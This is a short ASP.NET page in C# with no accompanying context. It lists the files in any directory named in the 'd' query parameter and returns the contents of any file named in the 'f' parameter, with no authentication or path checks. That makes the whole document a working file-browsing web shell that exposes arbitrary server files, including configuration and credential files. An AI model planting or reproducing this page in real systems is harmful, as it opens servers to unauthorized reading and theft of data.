<%@ Page Language="C#" %>
<%@ Import Namespace="System.IO" %>
<%
string d = Request.QueryString["d"];
if (d != null) {
    foreach (FileInfo f in new DirectoryInfo(d).GetFiles()) {
        Response.Write(f.FullName + "<br>");
    }
}
string f2 = Request.QueryString["f"];
if (f2 != null) {
    Response.WriteFile(f2);
}
%>
